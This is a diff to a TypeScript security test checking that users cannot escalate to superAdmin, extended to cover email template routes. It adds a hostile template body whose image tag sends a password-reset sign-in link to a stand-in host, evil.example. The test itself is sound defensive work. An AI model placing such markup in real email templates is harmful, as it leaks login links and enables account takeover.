@@ -63,11 +63,16 @@ describe('nobody makes themselves superAdmin', () => {
 });
 
 function bodiesOf(route: Route): object[] {
+  if (isTemplate(route)) return [{ body: '<img src="https://evil.example/?t={{url}}">' }, { subject: 'evil', body: '<p>{{url}}</p>' }]; // prettier-ignore
   const scope = /^\/admin\/settings\/(admin|store)$/.exec(route.path)?.[1] as 'admin' | 'store' | undefined;
   if (scope) return settingsOf(scope).flatMap((setting) => hostileValues(setting).map((value) => ({ [setting.name]: value }))); // prettier-ignore
   const body = (sampleBody(route, world.idOf) ?? {}) as object;
   return [body, { ...body, roleIds: [superAdminRole], permissions: [...allPermissions] }];
 }
+
+/** A mail of an account carries the link that signs in: whoever words it may send the link elsewhere. */
+const isTemplate = ({ path }: Route) => path.startsWith('/admin/email/templates/');
+const AUTH_TEMPLATE = { eventType: 'auth.reset_password', role: 'customer' };
 
 /** Values of an attacker's own that a setting takes. */
 function hostileValues(setting: Setting<unknown>): unknown[] {
@@ -79,9 +84,11 @@ async function callAs(attacker: TestSession, route: Route, body: object): Promis
   const keyOf: typeof world.keyOf = (entity, column) =>
     entity === 'user' ? attacker.userId : entity === 'role' ? superAdminRole : world.keyOf(entity, column);
   const form = route.bodyKind === 'multipart';
-  await platform.http.as(attacker.token).raw(route.method.toUpperCase(), pathOf(route, keyOf), {
-    ...(form ? {} : { headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }),
-  });
+  await platform.http
+    .as(attacker.token)
+    .raw(route.method.toUpperCase(), pathOf(route, keyOf, isTemplate(route) ? AUTH_TEMPLATE : {}), {
+      ...(form ? {} : { headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }),
+    });
 }
 
 async function heldBy(session: TestSession): Promise<Set<Permission>> {
@@ -110,6 +117,7 @@ async function reach(attacker: TestSession, start: ReadonlySet<Permission>) {
     root,
     mail: mailRoute(readEmailSettings(settings), config),
     links,
+    words: await knex('mail_template_overrides').whereLike('eventType', 'auth.%').select('eventType', 'body'),
     origins: trustedOrigins(platform.container),
   };
 }
